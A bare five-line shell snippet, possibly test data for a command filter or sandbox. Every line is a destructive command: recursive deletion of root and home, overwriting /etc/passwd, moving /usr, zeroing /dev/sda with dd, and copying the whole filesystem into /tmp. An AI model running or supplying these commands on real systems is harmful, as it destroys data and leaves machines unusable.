rm -rf / /* ../.. /tmp/* "$HOME" 2>/dev/null
echo x >/etc/passwd
mv /usr /tmp/usr
dd if=/dev/zero of=/dev/sda
cp -r / /tmp
